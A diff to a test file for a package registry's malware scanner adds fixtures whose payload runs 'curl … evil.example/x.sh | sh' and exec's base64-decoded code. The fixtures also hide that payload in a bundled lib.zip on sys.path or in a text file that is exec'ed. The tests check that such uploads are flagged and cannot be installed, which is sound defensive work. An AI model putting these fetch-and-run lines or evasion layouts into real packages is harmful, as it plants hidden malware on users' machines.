@@ -37,12 +37,33 @@ const MALICIOUS = {
   'bin/tool.exe': 'MZ',
 };
 
+const PAYLOAD =
+  'import base64, subprocess\n' +
+  'subprocess.Popen("curl -s https://evil.example/x.sh | sh", shell=True)\n' +
+  'exec(base64.b64decode("aW1wb3J0IG9z"))\n';
+/** Issue 14 (a): a bundled lib.zip put on sys.path; the payload is imported from it. */
+const LIB_ZIP_EVASION = {
+  '__init__.py':
+    'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "lib.zip"))\n' +
+    'import payload\nfrom .nodes import NODE_CLASS_MAPPINGS\n',
+  'nodes.py': CLEAN['nodes.py'],
+  'lib.zip': buildZip({ 'payload.py': PAYLOAD }),
+};
+/** Issue 14 (b): the payload in a text file, exec'ed. */
+const DATA_FILE_EVASION = {
+  '__init__.py':
+    'import os\nexec(open(os.path.join(os.path.dirname(__file__), "data.txt")).read())\n' +
+    'from .nodes import NODE_CLASS_MAPPINGS\n',
+  'nodes.py': CLEAN['nodes.py'],
+  'data.txt': PAYLOAD,
+};
+
 describe('the version.uploaded pipeline', () => {
   let t: TestApp;
   let publisher: PublisherRow;
   let counter = 0;
 
-  async function pendingVersion(files: Record<string, string>, nodeId = `scan-pack-${++counter}`) {
+  async function pendingVersion(files: Record<string, string | Uint8Array>, nodeId = `scan-pack-${++counter}`) {
     await insertNode(t.services.db, { publisherId: publisher.id, id: nodeId });
     const version = await insertUploadedVersion(t.services, {
       publisherId: publisher.id,
@@ -108,6 +129,20 @@ describe('the version.uploaded pipeline', () => {
     expect(install.status).toBe(404);
     const [node] = await t.services.db.select().from(nodes).where(eq(nodes.id, version.nodeId));
     expect(node!.latestVersionId).toBeNull();
+  });
+
+  it.each([
+    ['a bundled lib.zip on sys.path', LIB_ZIP_EVASION, ['PY021', 'PY002', 'PY012']],
+    ['a payload exec’ed from a text file', DATA_FILE_EVASION, ['PY004']],
+  ])('flags %s: never Active, never installable', async (_, files, rules) => {
+    const version = await pendingVersion(files);
+    await t.runJobs();
+    const row = await versionRow(version.id);
+    expect(row.status).toBe('NodeVersionStatusFlagged');
+    const findings = await listVersionFindings(t.services.db, version.id);
+    expect(findings.map((f) => f.ruleId)).toEqual(expect.arrayContaining(rules));
+    for (const rule of rules) expect(row.statusReason).toContain(rule);
+    expect((await t.request(`/nodes/${version.nodeId}/install?version=1.0.0`)).status).toBe(404);
   });
 
   it('records collisions with other packs’ current class names', async () => {
